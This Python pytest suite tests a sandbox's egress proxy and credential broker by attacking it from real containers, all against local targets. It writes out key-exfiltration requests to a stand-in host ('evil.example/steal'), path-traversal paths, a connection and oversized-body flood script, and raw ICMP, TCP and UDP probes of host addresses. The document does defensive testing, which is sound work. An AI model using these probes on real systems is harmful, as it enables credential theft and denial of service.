"""The ways out of a sandboxed pod that a hostile pass found, each closed and checked.

Every test attacks from inside real containers (busybox probes, or Python in the egress
image for the attacks busybox cannot make) against the real egress container (Squid and
the credential broker) on a real engine, and has a control that reaches its target, so
that a check which could never see the attack fails. README "Security model" names them.

The suite runs on two engines: the main one, and a second dockerd with iptables on in a
network namespace of its own (tests/engines_util.py), whose "host" is that namespace:
its addresses are the ones probed, its routes and addresses are checked, and its
listener runs there. The test process serves both engines' containers (the brokered
key's upstream, a DNS sink): the main engine's on its bridge's address, the isolated
engine's on the host's end of the namespace's veth pair.

Nothing here sends a packet off this machine: the host's own addresses, containers and
servers of the test process are the only targets, and the isolated engine's namespace
has no route beyond the host's end of its veth pair. No packet is sent from the host to
a pod's internal network either (the host has no route there, so it would leave through
the default route): the host side is checked through its addresses and routes.
"""

from __future__ import annotations

import contextlib
import io
import ipaddress
import json
import os
import socket
import subprocess
import sys
import threading
import uuid
from collections.abc import Iterator
from dataclasses import dataclass, replace
from pathlib import Path
from typing import NoReturn

import pytest

from cldpd_magic.engines.protocol import RunOptions
from cldpd_magic.pods.policy import EgressPolicy, parse_network_allow
from cldpd_magic.runs.egress import (
    BROKER_PORT,
    EGRESS_RESOURCES,
    LABEL_EGRESS_OF,
    PROXY_PORT,
    EgressGuard,
)

pytestmark = pytest.mark.docker

TEST_LABEL = {"cldpd.test": "security"}
EGRESS_BASE = "cldpd-debian:bookworm"


@dataclass
class Site:
    """The engine under attack, and its host as containers see it.

    Attributes:
        runner: The engine's runner.
        client: A docker-py client of it.
        host_address: An address of this test process that the engine's bridge
            containers (the egress container among them) reach.
        namespace: The network namespace of the engine's host, when it is not this
            process's (the isolated engine's).
        uplink: That namespace's end of its veth pair to this host.
        host_addresses: Every address of the engine's host a container could aim at.
    """

    runner: object
    client: object
    host_address: str
    namespace: str = ""
    uplink: str = ""

    def route(self, address: str) -> str:
        """How the engine's host would send to ``address`` (its error when it has no way)."""
        found = _ip(self.namespace, "route", "get", address, check=False)
        return (found.stdout + found.stderr).strip()

    def in_namespace(self) -> list[str]:
        """The start of a command that runs the rest on the engine's host (its namespace)."""
        return ["ip", "netns", "exec", self.namespace] if self.namespace else []

    @property
    def host_addresses(self) -> list[str]:
        """The host's own addresses and its default bridge's; not other tests' networks."""
        if self.namespace:
            bridge = self.client.api.inspect_network("bridge")["Options"]
            return _host_addresses(self.namespace, bridge["com.docker.network.bridge.name"],
                                   self.uplink)  # fmt: skip
        return [self.host_address, *_host_addresses("", *_own_links())]


def _ip(namespace: str, *args: str, check: bool = True) -> subprocess.CompletedProcess[str]:
    """``ip`` in a network namespace ("" for this process's)."""
    where = ["-n", namespace] if namespace else []
    return subprocess.run(["ip", *where, *args], capture_output=True, text=True, check=check)


def _own_links() -> list[str]:
    """The host's links that Docker did not make (its bridges and their veths)."""
    links = json.loads(subprocess.run(["ip", "-j", "link"], capture_output=True,
                                      check=True).stdout)  # fmt: skip
    return [
        link["ifname"]
        for link in links
        if link.get("link_type") == "ether"
        and not link["ifname"].startswith(("docker", "br-", "veth", "cldpdbr"))
        and link.get("linkinfo", {}).get("info_kind") not in ("bridge", "veth")
    ]


def _host_addresses(namespace: str, *device: str) -> list[str]:
    """A namespace's IPv4 addresses but loopback (of the devices named, if any)."""
    listing = []
    for name in device or [""]:
        show = ["-j", "-4", "addr", "show", *(["dev", name] if name else [])]
        listing += json.loads(_ip(namespace, *show).stdout)
    return [
        info["local"]
        for link in listing
        if link.get("ifname") != "lo"
        for info in link.get("addr_info", [])
        if info.get("scope") == "global"
    ]


def _unavailable(message: str) -> NoReturn:
    if os.environ.get("CI"):
        pytest.fail(message)
    pytest.skip(message)


@pytest.fixture(scope="module", params=["main", "isolated"])
def site(request) -> Iterator[Site]:
    """The engine under attack: the main engine, or a dockerd with iptables on in a
    network namespace of its own; the egress image built from the offline Debian base on
    the main engine (and copied to the other)."""
    import docker

    from cldpd_magic.engines.docker.runner import DockerRunner

    client = docker.from_env()
    try:
        client.images.get(EGRESS_BASE)
    except Exception as exc:
        client.close()
        _unavailable(
            f"no Docker engine with {EGRESS_BASE} ({type(exc).__name__}); run scripts/setup"
        )
    mp = pytest.MonkeyPatch()
    mp.setenv("CLDPD_EGRESS_BASE", EGRESS_BASE)
    try:
        if request.param == "main":
            bridge = client.api.inspect_network("bridge")["Options"]
            address = _host_addresses("", bridge["com.docker.network.bridge.name"])
            yield Site(DockerRunner(), client, address[0])
            return
        if os.geteuid() != 0:
            _unavailable("the isolated engine needs root (a network namespace, a dockerd)")
        from engines_util import start_isolated_engine, stop_isolated_engine

        from cldpd_magic.runs.egress import rules_image_tag

        image = EgressGuard(DockerRunner(), "cldpd-sec-image", EgressPolicy()).ensure_image()
        engine = start_isolated_engine(
            ["busybox:latest", EGRESS_BASE, image, rules_image_tag(image)]
        )
        try:
            isolated = docker.DockerClient(base_url=engine.url)
            try:
                yield Site(DockerRunner(base_url=engine.url), isolated, engine.host_address,
                           engine.namespace, engine.link)  # fmt: skip
            finally:
                isolated.close()
            # Nothing the tests did gave the namespace a way off this machine.
            assert engine.ip("route", "show", "default").strip() == ""
        finally:
            stop_isolated_engine(engine)
    finally:
        mp.undo()
        client.close()


@dataclass
class Egress:
    """A run's egress, set up by the product, and a way to run probes behind it."""

    site: Site
    guard: EgressGuard
    opts: RunOptions

    @property
    def broker(self) -> str:
        """The broker's address on the pod's network."""
        return self.opts.env["ANTHROPIC_BASE_URL"].removeprefix("http://").partition(":")[0]

    @property
    def token(self) -> str:
        """What the pod has in place of the key."""
        return self.opts.env["ANTHROPIC_API_KEY"]

    def probe(
        self, script: str, *args: str, image: str = "busybox:latest", **changes
    ) -> tuple[int, str]:
        """Run ``script`` (sh, or Python with another image) as a pod behind this egress."""
        out = io.StringIO()
        shell = ["sh", "-c"] if image == "busybox:latest" else ["python3", "-c"]
        cmd = [*shell, script, *args]
        opts = replace(self.opts, image=image, cmd=cmd, labels=TEST_LABEL,
                       name=f"{self.opts.name}-{uuid.uuid4().hex[:6]}", **changes)  # fmt: skip
        code = self.site.runner.run(opts, out, out)
        return code, out.getvalue()

    def container(self):
        """The egress container, through docker-py."""
        return self.site.client.containers.get(self.guard.proxy)


@contextlib.contextmanager
def egress(
    site: Site, allow: list[str] = (), credentials: list[tuple[str, str, str]] = ()
) -> Iterator[Egress]:
    """Set up a run's egress as a start does; remove it after."""
    name = f"cldpd-sec-{uuid.uuid4().hex[:8]}"
    policy = parse_network_allow(Path("pod.json"), {"allow": list(allow)})
    guard = EgressGuard(site.runner, name, policy, list(credentials))
    opts = guard.setup(RunOptions(image="busybox:latest", name=name, cmd=[], env={}))
    try:
        yield Egress(site, guard, opts)
    finally:
        guard.remove()
        left = site.client.containers.list(all=True, filters={"label": f"{LABEL_EGRESS_OF}={name}"})
        assert left == []


@pytest.fixture
def model(site) -> Iterator[object]:
    """The scripted model API on the host, as the brokered key's upstream."""
    from cldpd_magic.model_server.server import ScriptedModelServer

    key = f"sk-ant-real-{uuid.uuid4().hex}"
    with ScriptedModelServer(host=site.host_address, api_key=key) as server:
        server.key = key
        yield server


def brokered(model) -> list[tuple[str, str, str]]:
    return [("anthropic", model.key, model.url)]


def request(method: str, path: str, key: str, *, host: str = "x", body: str = "{}") -> str:
    """An HTTP/1.1 request as printf writes it."""
    lines = [f"{method} {path} HTTP/1.1", f"Host: {host}", f"x-api-key: {key}",
             f"Content-Length: {len(body)}", "Connection: close", "", body]  # fmt: skip
    return "\\r\\n".join(lines)


def send(e: Egress, raw: str, port: int = BROKER_PORT, host: str = "") -> str:
    """A shell line that sends ``raw`` to the broker and prints its status line."""
    raw = raw.replace("%", "%%")
    return f"printf '{raw}' | nc -w 5 {host or e.broker} {port} | head -1; echo\n"


# --- 1. Another process can spend a pod's brokered key ---------------------------------


def test_the_broker_forwards_only_requests_that_carry_the_runs_token(site, model):
    with egress(site, credentials=brokered(model)) as e:
        assert e.token.startswith("cldpd-brokered-") and len(e.token) > 40
        count = "/v1/messages/count_tokens"
        _, out = e.probe(
            send(e, request("POST", count, "cldpd-brokered-placeholder"))
            + send(e, request("POST", count, ""))
            + send(e, request("POST", count, e.token))  # the control: the pod's own token
        )
    statuses = [line.split()[1] for line in out.splitlines() if line.startswith("HTTP/")]
    assert statuses == ["401", "401", "200"], out
    assert [r.headers["x-api-key"] for r in model.requests] == [model.key]


def test_another_run_has_its_own_token(site, model):
    with (
        egress(site, credentials=brokered(model)) as first,
        egress(site, credentials=brokered(model)) as second,
    ):
        assert first.token != second.token
        theirs = request("POST", "/v1/messages/count_tokens", second.token)
        _, out = first.probe(send(first, theirs))
    assert out.startswith("HTTP/1.1 401"), out
    assert model.requests == []


def test_nothing_but_its_pod_reaches_the_broker_and_the_proxy(site, model):
    """The host holds no address on a pod's network and has no route into it; a container
    on the engine's default bridge finds neither service on the egress container's other
    side. The control: the pod itself reaches both."""
    with egress(site, credentials=brokered(model)) as e:
        ipam = site.client.api.inspect_network(e.guard.network)["IPAM"]["Config"][0]
        subnet = ipaddress.ip_network(ipam["Subnet"])
        outer = site.runner.address(e.guard.proxy, "bridge")
        assert outer and ipaddress.ip_address(outer) not in subnet
        _, inside = e.probe(
            send(e, request("POST", "/v1/messages/count_tokens", e.token))
            + f"printf 'GET http://x/ HTTP/1.0\\r\\n\\r\\n' | nc -w 5 {e.broker} {PROXY_PORT}"
            " | head -1; echo\n"
        )
        neighbour = RunOptions(
            image="busybox:latest", name=f"{e.guard.proxy}-nb", labels=TEST_LABEL,
            cmd=["sh", "-c", send(e, request("POST", "/v1/messages/count_tokens", e.token),
                                  host=outer)
                 + f"printf 'GET http://x/ HTTP/1.0\\r\\n\\r\\n' | nc -w 5 {outer} {PROXY_PORT}"
                 " | head -1; echo neighbour-done"],
        )  # fmt: skip
        out = io.StringIO()
        site.runner.run(neighbour, out, out)
        held = [a for a in _host_addresses(site.namespace) if ipaddress.ip_address(a) in subnet]
        route = site.route(e.broker)
    assert inside.count("HTTP/1.1") == 2, inside
    assert "HTTP/" not in out.getvalue() and "neighbour-done" in out.getvalue()
    assert held == []
    assert route and "docker" not in route and " br-" not in route, route
    assert len(model.requests) == 1


def test_a_plain_internal_network_would_give_the_host_an_address_and_a_route(site):
    """The control of the test above: without the option cldpd sets, Docker gives the host
    an address on an internal network and a route into it."""
    network = site.client.networks.create(
        f"cldpd-sec-{uuid.uuid4().hex[:8]}", internal=True, labels=TEST_LABEL
    )
    try:
        ipam = site.client.api.inspect_network(network.id)["IPAM"]["Config"][0]
        subnet = ipaddress.ip_network(ipam["Subnet"])
        # Docker makes the bridge when the first container joins.
        site.client.containers.run("busybox:latest", ["true"], network=network.name,
                                   labels=TEST_LABEL, remove=True)  # fmt: skip
        held = [a for a in _host_addresses(site.namespace) if ipaddress.ip_address(a) in subnet]
        route = site.route(str(subnet.network_address + 2))
    finally:
        network.remove()
    assert held == [ipam["Gateway"]]
    assert " br-" in route, route


# --- 2. The pod chooses where the key goes --------------------------------------------


def test_the_key_goes_only_to_the_configured_origin_and_the_apis_paths(site, model):
    count = "/v1/messages/count_tokens"
    with egress(site, credentials=brokered(model)) as e:
        _, out = e.probe(
            send(e, request("POST", "http://evil.example/steal", e.token, host="evil.example"))
            + send(e, request("CONNECT", "evil.example:443", e.token, host="evil.example"))
            + send(e, request("POST", "/v1/../steal", e.token))
            + send(e, request("POST", "/v1/%2e%2e/steal", e.token))
            + send(e, request("GET", "/steal", e.token))
            + send(e, request("TRACE", count, e.token))
            + send(e, request("POST", count, e.token, host="evil.example"))  # the control
        )
    statuses = [line.split()[1] for line in out.splitlines() if line.startswith("HTTP/")]
    assert statuses == ["400", "405", "400", "400", "404", "405", "200"], out
    assert [(r.method, r.path) for r in model.requests] == [("POST", count)]
    upstream = model.url.removeprefix("http://")
    assert model.requests[0].headers["host"] == upstream
    assert model.requests[0].headers["x-api-key"] == model.key


# --- 3. The egress container is unconfined ---------------------------------------------

#: Python in the egress image: floods the broker, then sends what once crashed it.
FLOOD = """
import os, socket, sys, time
host, port, token = sys.argv[1], int(sys.argv[2]), sys.argv[3]
held, refused = [], 0
for _ in range(300):
    try:
        s = socket.create_connection((host, port), timeout=5)
        s.settimeout(0.5)
        if s.recv(100).startswith(b"HTTP/1.1 503"):
            refused += 1
    except socket.timeout:
        pass
    except OSError:
        refused += 1
    held.append(s)
print("held", len(held), "refused", refused, flush=True)
for s in held:
    s.close()
time.sleep(1)

def ask(head, body=b"", chunks=0):
    s = socket.create_connection((host, port), timeout=30)
    s.sendall(head)
    try:
        for _ in range(chunks):
            s.sendall(body)
    except OSError:
        pass
    answer = s.recv(200).split(b"\\r\\n")[0].decode()
    s.close()
    return answer

head = b"POST /v1/messages HTTP/1.1\\r\\nHost: x\\r\\nx-api-key: %s\\r\\n" % token.encode()
print("huge", ask(head + b"Content-Length: %d\\r\\n\\r\\n" % (1 << 30), b"x" * (1 << 20), 700),
      flush=True)
print("bad", ask(head + b"Content-Length: -5\\r\\n\\r\\n"), flush=True)
print("word", ask(head + b"Content-Length: many\\r\\n\\r\\n"), flush=True)
print("chunked", ask(b"POST /v1/messages HTTP/1.1\\r\\nHost: x\\r\\nTransfer-Encoding: chunked"
                     b"\\r\\nx-api-key: " + token.encode() + b"\\r\\n\\r\\n"), flush=True)
ok = b"POST /v1/messages/count_tokens HTTP/1.1\\r\\nHost: x\\r\\nx-api-key: %s\\r\\n"
print("after", ask(ok % token.encode() + b"Content-Length: 2\\r\\n\\r\\n{}"), flush=True)
"""


@pytest.fixture(scope="module")
def python_image(site) -> Iterator[str]:
    """An image with Python for attacks busybox cannot make: the egress image, plain."""
    from cldpd_magic.runs.egress import egress_image_tag

    tag = f"cldpd-test-python:{uuid.uuid4().hex[:8]}"
    base = egress_image_tag(EGRESS_BASE)
    dockerfile = io.BytesIO(f"FROM {base}\nUSER root\nENTRYPOINT []\n".encode())
    site.client.images.build(fileobj=dockerfile, tag=tag, labels=TEST_LABEL, rm=True)
    yield tag
    site.client.images.remove(tag, noprune=True)


def test_the_egress_container_is_confined_and_survives_floods(site, model, python_image):
    with egress(site, credentials=brokered(model)) as e:
        config = e.container().attrs["HostConfig"]
        code, out = e.probe(
            FLOOD,
            e.broker,
            str(BROKER_PORT),
            e.token,
            image=python_image,
            resources=replace(e.opts.resources, memory=64 << 20, pids=64),
        )
        # The broker served through it all: the container is the one it was.
        state = e.container().attrs["State"]
        stats = e.container().stats(stream=False)
    assert code == 0, out
    held, refused = (int(x) for x in out.split("\n")[0].split()[1::2])
    assert held == 300 and refused >= 300 - 32, out
    assert "huge HTTP/1.1 413" in out
    assert "bad HTTP/1.1 400" in out and "word HTTP/1.1 400" in out
    assert "chunked HTTP/1.1 411" in out
    assert "after HTTP/1.1 200" in out
    assert state["Running"] and not state["OOMKilled"]
    assert config["Memory"] == EGRESS_RESOURCES.memory
    assert config["PidsLimit"] == EGRESS_RESOURCES.pids
    assert config["NanoCpus"] == int(EGRESS_RESOURCES.cpus * 1e9)
    assert config["ReadonlyRootfs"] is True
    assert config["CapDrop"] == ["ALL"] and not config["CapAdd"]
    assert "no-new-privileges" in config["SecurityOpt"]
    peak = stats["memory_stats"].get("max_usage") or stats["memory_stats"]["usage"]
    assert peak < EGRESS_RESOURCES.memory
    assert [r.path for r in model.requests] == ["/v1/messages/count_tokens"]


# --- 4. The host is reachable on every address ------------------------------------------


#: Python on the engine's host: TCP and UDP on every address, one port; prints the port,
#: then a line for each knock; at the end of its stdin, takes what has come and ends.
LISTEN = """
import select, socket, sys
tcp = socket.create_server(("0.0.0.0", 0))
port = tcp.getsockname()[1]
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
udp.bind(("0.0.0.0", port))
print(port, flush=True)

def take(sock):
    if sock is udp:
        data, _ = udp.recvfrom(100)
        print("udp", data.decode(errors="replace").strip(), flush=True)
        return
    conn, _ = tcp.accept()
    with conn:
        conn.settimeout(2)
        try:
            data = conn.recv(100)
        except OSError:
            return
    print("tcp", data.decode(errors="replace").strip(), flush=True)

while True:
    ready = select.select([tcp, udp, sys.stdin], [], [])[0]
    if sys.stdin in ready:
        ready = select.select([tcp, udp], [], [], 0)[0]
        if not ready:
            break
    for sock in ready:
        take(sock)
"""


class HostListener:
    """TCP and UDP on every address of the engine's host, one port: who got through.

    It runs in the network namespace of the engine's host (this process's for the main
    engine), as a child process.
    """

    def __init__(self, site: Site) -> None:
        self._process = subprocess.Popen(
            [*site.in_namespace(), sys.executable, "-c", LISTEN],
            stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True,
        )  # fmt: skip
        assert self._process.stdout is not None
        self.port = int(self._process.stdout.readline())
        self.seen: list[str] = []

    def close(self) -> None:
        """Stop listening once every knock that came is taken; ``seen`` then holds them."""
        if self._process.returncode is not None:
            return
        try:
            out, _ = self._process.communicate(timeout=60)
        except subprocess.TimeoutExpired:
            self._process.kill()
            self._process.communicate()
            raise
        self.seen = out.splitlines()
        assert self._process.returncode == 0, out


@pytest.fixture
def listener(site) -> Iterator[HostListener]:
    listening = HostListener(site)
    yield listening
    listening.close()


#: Python as root with NET_RAW: knocks on each address by TCP, UDP and ICMP echo.
KNOCK = """
import socket, struct, sys
port, who = int(sys.argv[1]), sys.argv[2]

def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF

for address in sys.argv[3:]:
    mark = f"{who}-{address}".encode()
    try:
        with socket.create_connection((address, port), timeout=2) as s:
            s.sendall(mark)
    except OSError:
        pass
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as u:
        try:
            u.sendto(mark, (address, port))
        except OSError:
            pass
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as r:
        r.settimeout(2)
        payload = mark + b"\\0" * (len(mark) % 2)
        header = struct.pack("!BBHHH", 8, 0, 0, 7, 1)
        packet = struct.pack("!BBHHH", 8, 0, checksum(header + payload), 7, 1) + payload
        try:
            r.sendto(packet, (address, 0))
            while True:
                data, source = r.recvfrom(1024)
                if source[0] == address and data[20] == 0:
                    print("icmp", mark.decode(), flush=True)
                    break
        except OSError:
            pass
"""


def test_an_allowlisted_pod_reaches_no_address_of_the_host(site, listener, python_image):
    with egress(site, allow=["example.com"]) as e:
        ipam = site.client.api.inspect_network(e.guard.network)["IPAM"]["Config"][0]
        targets = [ipam["Gateway"], *site.host_addresses]
        knock = [KNOCK, str(listener.port)]
        _, blocked = e.probe(*knock, "pod", *targets, image=python_image, cap_add=["NET_RAW"])
        # The control: the same knocks from the engine's default bridge get through.
        control = RunOptions(
            image=python_image, name=f"{e.guard.proxy}-ctl", labels=TEST_LABEL,
            cap_add=["NET_RAW"], cmd=["python3", "-c", *knock, "ctl", *site.host_addresses],
        )  # fmt: skip
        out = io.StringIO()
        assert site.runner.run(control, out, out) == 0, out.getvalue()
    listener.close()  # it has taken every datagram that came
    seen = sorted(listener.seen)
    assert not any("pod-" in s for s in seen) and "icmp" not in blocked, (seen, blocked)
    for address in site.host_addresses:
        assert f"tcp ctl-{address}" in seen and f"udp ctl-{address}" in seen, seen
        assert f"icmp ctl-{address}" in out.getvalue()


# --- 6. DNS carries data out of blocked requests; 8. error pages name Squid's version ---


def attempts(guard: EgressGuard, count: int) -> list:
    """The proxy's attempts once it has logged ``count`` (its log comes a moment later)."""
    import time

    deadline = time.monotonic() + 30
    while len(guard.attempts) < count and time.monotonic() < deadline:
        time.sleep(0.1)
    return list(guard.attempts)


class DnsSink:
    """A DNS server on a host address that records every name asked and answers at once:
    127.0.0.1 for names holding "loopback-", no such name for the rest."""

    def __init__(self, address: str) -> None:
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.sock.bind((address, 53))  # a resolver configuration names no port
        self.address = address
        self.sock.settimeout(0.2)
        self.names: list[str] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            with contextlib.suppress(OSError, IndexError):
                query, peer = self.sock.recvfrom(512)
                labels, at = [], 12
                while query[at]:
                    labels.append(query[at + 1 : at + 1 + query[at]].decode(errors="replace"))
                    at += 1 + query[at]
                question = query[12 : at + 5]
                qtype = int.from_bytes(query[at + 1 : at + 3], "big")
                name = ".".join(labels)
                self.names.append(name)
                found = "loopback-" in name
                answer = b""
                if found and qtype == 1:
                    answer = b"\xc0\x0c\x00\x01\x00\x01\x00\x00\x00\x3c\x00\x04\x7f\x00\x00\x01"
                flags = b"\x81\x80" if found else b"\x81\x83"
                header = query[:2] + flags + b"\x00\x01" + (b"\x00\x01" if answer else b"\x00\x00")
                self.sock.sendto(header + b"\x00\x00\x00\x00" + question + answer, peer)

    def close(self) -> None:
        self._stop.set()
        self._thread.join()
        self.sock.close()


def test_squid_looks_up_no_name_for_a_request_it_refuses(site, monkeypatch):
    sink = DnsSink(site.host_address)
    mark = uuid.uuid4().hex[:10]
    service_options = EgressGuard.service_options
    monkeypatch.setattr(
        EgressGuard, "service_options",
        lambda self, image: replace(service_options(self, image), dns=[sink.address]),
    )  # fmt: skip
    try:
        with egress(site, allow=[f"allowed-{mark}.example", f"loopback-{mark}.example"]) as e:
            _, out = e.probe(
                "proxy=${HTTP_PROXY#http://}; host=${proxy%:*}\n"
                + "\n".join(
                    # busybox nc drops the connection when its input ends: keep it open
                    f"(printf 'GET {url} HTTP/1.0\\r\\n\\r\\n'; sleep 2) | nc -w 10 $host"
                    f" {PROXY_PORT}; echo"
                    for url in (
                        "http://10.11.12.13/",
                        "http://[fd00::1234]/",
                        f"http://blocked-{mark}.example/",
                        f"http://loopback-{mark}.example/",
                        f"http://allowed-{mark}.example/",  # the control: a lookup it needs
                    )
                )
            )
            hostname = e.container().attrs["Config"]["Hostname"]
            blocked = [a.target for a in attempts(e.guard, 5) if not a.allowed]
    finally:
        sink.close()
    asked = [n for n in sink.names if mark in n or "arpa" in n]
    assert any(n.startswith(f"allowed-{mark}") for n in asked), (sink.names, out)
    assert not any("blocked-" in n or "arpa" in n for n in asked), asked
    assert f"loopback-{mark}.example:80" in blocked  # an allowed name on a loopback address
    assert "10.11.12.13:80" in blocked and "[fd00::1234]:80" in blocked
    assert out.count("HTTP/1.1 403") == 4, out
    assert "squid/" not in out.lower() and hostname not in out
